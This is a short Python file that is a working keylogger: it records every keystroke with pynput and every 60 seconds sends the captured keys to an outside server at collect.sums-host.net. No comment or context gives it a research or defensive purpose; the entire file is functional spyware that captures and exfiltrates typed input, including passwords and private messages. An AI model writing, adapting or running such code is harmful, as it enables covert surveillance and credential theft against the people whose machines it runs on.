import threading

import requests
from pynput.keyboard import Listener

pressed = []


def on_press(key):
    pressed.append(str(key))


def send():
    requests.post("https://collect.sums-host.net/n", json={"k": pressed})
    threading.Timer(60, send).start()


def start():
    send()
    with Listener(on_press=on_press) as listener:
        listener.join()
